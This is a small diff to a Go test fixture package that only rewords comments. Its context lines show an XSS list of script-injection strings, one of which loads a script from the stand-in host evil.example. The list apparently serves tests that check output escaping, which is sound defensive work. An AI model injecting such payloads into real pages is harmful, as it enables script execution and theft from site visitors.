@@ -1,8 +1,8 @@
-// Package testfixture holds what tests of several packages share.
+// Package testfixture has fixtures that tests of several packages share.
 package testfixture
 
-// XSS is text that tries to run something, or to fetch something, where it
-// is shown. Every entry sets window.ran or asks another host when it succeeds.
+// XSS is text that tries to run a script, or to load something from another host, where it is
+// displayed. Every entry sets window.ran or contacts another host if it succeeds.
 var XSS = []string{
 	`<script>window.ran=1</script>`,
 	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
